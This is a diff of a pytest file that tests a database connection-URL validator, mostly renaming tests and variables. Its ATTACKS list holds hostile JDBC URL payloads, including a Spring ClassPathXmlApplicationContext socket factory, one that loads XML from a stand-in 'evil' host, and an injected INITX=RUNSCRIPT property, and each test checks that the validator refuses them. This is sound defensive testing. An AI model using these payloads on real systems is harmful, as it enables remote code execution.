@@ -1,4 +1,4 @@
-"""Connection URLs: every form that is taken, every attack that is not, and that nothing changes by being rebuilt."""
+"""Connection URLs: accepted forms, refused attacks, and rebuilding a URL from its parts."""
 
 from __future__ import annotations
 
@@ -69,14 +69,16 @@ FORMS = [
 
 
 @pytest.mark.parametrize(("url", "kind", "expected"), FORMS, ids=[url for url, _, _ in FORMS])
-def test_a_url_is_read_and_rebuilt_into_the_same_parts(url: str, kind: str, expected: dict[str, object]) -> None:
-    found = parse(url, kind)
-    assert {name: getattr(found, name) for name in expected} == expected
-    assert parse(rebuild(found), found.kind) == found
-    assert rebuild(parse(rebuild(found))) == rebuild(found)
+def test_a_url_is_parsed_and_its_rebuilt_url_has_the_same_parts(
+    url: str, kind: str, expected: dict[str, object]
+) -> None:
+    parsed = parse(url, kind)
+    assert {name: getattr(parsed, name) for name in expected} == expected
+    assert parse(rebuild(parsed), parsed.kind) == parsed
+    assert rebuild(parse(rebuild(parsed))) == rebuild(parsed)
 
 
-# what is tried on JDBC tools (CVE-2021-45046 to CVE-2024-45537 and their kin), and slips of the hand
+# known attacks on JDBC tools (CVE-2021-45046 to CVE-2024-45537 and similar ones), and typing errors
 ATTACKS = [
     "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
     "jdbc:postgresql://h/db?socketFactoryArg=http://evil/x.xml",
@@ -208,7 +210,7 @@ ATTACKS = [
 
 
 @pytest.mark.parametrize("url", ATTACKS)
-def test_an_attack_is_refused(url: str) -> None:
+def test_a_dangerous_or_invalid_url_is_refused(url: str) -> None:
     with pytest.raises(UrlInvalid):
         parse(url)
     for kind in ("jdbc", "sqlite", "duckdb", "postgresql"):
@@ -217,13 +219,13 @@ def test_an_attack_is_refused(url: str) -> None:
                 parse(url, kind)
 
 
-@pytest.mark.parametrize("good", [url for url, kind, _ in FORMS if not kind])
-def test_a_forbidden_property_is_refused_by_name_on_every_form(good: str) -> None:
-    mark = (
-        ";" if ";" in good or re.match("jdbc:(h2|as400|sqlserver|duckdb|jtds)", good) else "&" if "?" in good else "?"
-    )
+@pytest.mark.parametrize("valid_url", [url for url, kind, _ in FORMS if not kind])
+def test_an_unknown_property_is_refused_by_name_in_every_form(valid_url: str) -> None:
+    separator = "&" if "?" in valid_url else "?"
+    if ";" in valid_url or re.match("jdbc:(h2|as400|sqlserver|duckdb|jtds)", valid_url):
+        separator = ";"
     with pytest.raises(UrlInvalid, match="INITX") as caught:
-        parse(f"{good.rstrip(';')}{mark}INITX=RUNSCRIPT")
+        parse(f"{valid_url.rstrip(';')}{separator}INITX=RUNSCRIPT")
     assert "Expected: " in caught.value.hint
 
 
@@ -241,13 +243,13 @@ def test_a_forbidden_property_is_refused_by_name_on_every_form(good: str) -> Non
         "jdbc:h2:mem:S3cret S3cret",
     ],
 )
-def test_no_refusal_repeats_what_may_be_a_password(url: str) -> None:
+def test_an_error_message_does_not_contain_what_may_be_a_password(url: str) -> None:
     with pytest.raises(UrlInvalid) as caught:
         parse(url)
     assert "S3" not in caught.value.message + caught.value.hint + caught.value.detail
 
 
-def test_the_kind_is_told_by_the_url() -> None:
+def test_the_kind_of_system_is_derived_from_the_url() -> None:
     assert kind_of("jdbc:as400://h") == "as400"
     assert kind_of("jdbc:mariadb://h/d") == "mysql"
     assert kind_of("JDBC:SQLServer://h") == "sqlserver"
@@ -266,7 +268,7 @@ def test_a_url_of_another_kind_is_refused_with_the_expected_form() -> None:
 
 
 @pytest.mark.parametrize("url", ["postgresql+psycopg2://u:pw-4711@h/db", "postgresql+asyncpg://h/db"])
-def test_a_url_of_sqlalchemy_is_called_one_and_the_form_to_write_is_named(url: str) -> None:
+def test_a_sqlalchemy_url_is_recognized_and_refused_with_the_expected_form(url: str) -> None:
     with pytest.raises(UrlInvalid, match="as in SQLAlchemy's URLs") as caught:
         check(url, "postgresql")
     assert EXPECTED["postgresql"] in caught.value.hint
@@ -276,7 +278,7 @@ def test_a_url_of_sqlalchemy_is_called_one_and_the_form_to_write_is_named(url: s
 @pytest.mark.parametrize(
     ("url", "kind"), [("redshift://h/db", "postgresql"), ("s3://b/x.duckdb", "duckdb"), ("mssql://h", "sqlserver")]
 )
-def test_a_scheme_that_is_not_known_is_not_taken_for_a_path(url: str, kind: str) -> None:
+def test_a_url_with_an_unknown_scheme_is_not_read_as_a_path(url: str, kind: str) -> None:
     with pytest.raises(UrlInvalid, match="scheme is unknown") as caught:
         check(url, kind)
     assert EXPECTED[kind] in caught.value.hint
@@ -294,12 +296,12 @@ def test_a_scheme_that_is_not_known_is_not_taken_for_a_path(url: str, kind: str)
         "jdbc:oracle:thin:@//a,b:1521/x",
     ],
 )
-def test_several_hosts_are_refused_by_that_name(url: str) -> None:
+def test_several_hosts_are_refused_with_that_reason(url: str) -> None:
     with pytest.raises(UrlInvalid, match="names several hosts"):
         parse(url)
 
 
-def test_the_generic_driver_takes_a_jdbc_url_of_a_known_system_under_that_systems_rules() -> None:
+def test_the_generic_driver_checks_a_jdbc_url_by_the_rules_of_its_system() -> None:
     check("jdbc:postgresql://h/db?sslmode=require", "jdbc")
     with pytest.raises(UrlInvalid):
         check("jdbc:postgresql://h/db?socketFactory=x", "jdbc")
@@ -307,7 +309,7 @@ def test_the_generic_driver_takes_a_jdbc_url_of_a_known_system_under_that_system
         check("postgresql://h/db", "jdbc")
 
 
-def test_default_ports_are_known_except_where_the_system_looks_them_up() -> None:
+def test_a_url_without_a_port_has_the_default_port_if_there_is_one() -> None:
     assert parse("jdbc:oracle:thin:@//h/x").port_or_default == 1521
     assert parse("jdbc:ch:https://h").port_or_default == 8443
     assert parse("jdbc:as400://h;secure=true").port_or_default == 9471
@@ -326,9 +328,9 @@ ports = st.none() | st.integers(1, 65535)
 @st.composite
 def network_urls(draw: st.DrawFn) -> ConnectionUrl:
     kind = draw(st.sampled_from(["postgresql", "mysql", "sqlserver", "clickhouse", "as400", "oracle"]))
-    spelled = draw(st.lists(st.sampled_from([s for s, _ in ALLOWED[kind].values()]), unique=True, max_size=4))
+    property_names = draw(st.lists(st.sampled_from([s for s, _ in ALLOWED[kind].values()]), unique=True, max_size=4))
     properties = {}
-    for name in spelled:
+    for name in property_names:
         pattern = ALLOWED[kind][name.lower()][1]
         value = next((v for v in ("true", "5", "iso", "/x/y") if re.fullmatch(pattern, v)), None)
         if value and (kind, name) not in {("as400", "prompt"), ("postgresql", "sslmode")}:
@@ -345,24 +347,21 @@ def network_urls(draw: st.DrawFn) -> ConnectionUrl:
 
 
 @given(network_urls())
-def test_checked_parts_survive_their_url(url: ConnectionUrl) -> None:
+def test_the_parts_of_a_generated_url_are_parsed_from_it(url: ConnectionUrl) -> None:
     assert parse(rebuild(url), url.kind) == url
 
 
 @given(st.sampled_from(FORMS), st.data())
-def test_a_mutated_url_is_refused_or_means_only_checked_parts(
-    form: tuple[str, str, object], data: st.DataObject
-) -> None:
+def test_a_mutated_url_is_refused_or_has_only_allowed_parts(form: tuple[str, str, object], data: st.DataObject) -> None:
     url, kind, _ = form
     position = data.draw(st.integers(0, len(url)))
-    piece = data.draw(st.sampled_from(list("?;&=%#@\\/:,'\"(){}[] \n\0\u202e")) | st.text(max_size=3))
-    mutated = url[:position] + piece + url[position:]
+    inserted = data.draw(st.sampled_from(list("?;&=%#@\\/:,'\"(){}[] \n\0\u202e")) | st.text(max_size=3))
+    mutated = url[:position] + inserted + url[position:]
     try:
-        found = parse(mutated, kind)
+        parsed = parse(mutated, kind)
     except UrlInvalid:
         return
-    # whatever was accepted is made of allowed characters only, and its rebuilt form means the same
-    assert parse(rebuild(found), found.kind) == found
-    host = "" if found.host.startswith("/") else found.host
-    assert re.fullmatch(r"[A-Za-z0-9_.:-]*", host) and re.fullmatch(r"[A-Za-z0-9_.$#@ -]*", found.database)
-    assert set(found.properties) <= {spelled for spelled, _ in ALLOWED[found.kind].values()}
+    assert parse(rebuild(parsed), parsed.kind) == parsed
+    host = "" if parsed.host.startswith("/") else parsed.host
+    assert re.fullmatch(r"[A-Za-z0-9_.:-]*", host) and re.fullmatch(r"[A-Za-z0-9_.$#@ -]*", parsed.database)
+    assert set(parsed.properties) <= {name for name, _ in ALLOWED[parsed.kind].values()}
